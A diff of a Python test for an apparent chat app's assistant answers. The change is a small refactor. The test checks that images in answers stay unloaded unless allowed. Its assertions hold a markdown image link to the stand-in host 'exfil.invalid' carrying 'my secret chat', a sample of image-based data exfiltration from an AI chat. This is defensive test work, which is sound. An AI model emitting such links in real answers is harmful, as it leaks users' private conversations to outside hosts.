@@ -290,11 +290,11 @@ def test_images_in_answers_are_not_loaded_unless_allowed(
     at = new_app()
     first = cards(at)[0]
     send_to_card(at, first, "show me")
-    answer = [m for m in at.chat_message if m.name == "assistant"][0].markdown[0].value
+    answer = next(m for m in at.chat_message if m.name == "assistant").markdown[0].value
     assert "![" not in answer.replace("\\![", "")
     assert "(image not loaded)](http://exfil.invalid/?q=my+secret+chat)" in answer
     assert cards(at)[0].messages[-1].content == crafted  # the history keeps the original
     assert at.markdown[0].proto.allow_html is False  # raw HTML is never rendered
     at.button(key=key(first, "images")).click().run()
-    answer = [m for m in at.chat_message if m.name == "assistant"][0].markdown[0].value
+    answer = next(m for m in at.chat_message if m.name == "assistant").markdown[0].value
     assert "![chart](http://exfil.invalid/?q=my+secret+chat)" in answer
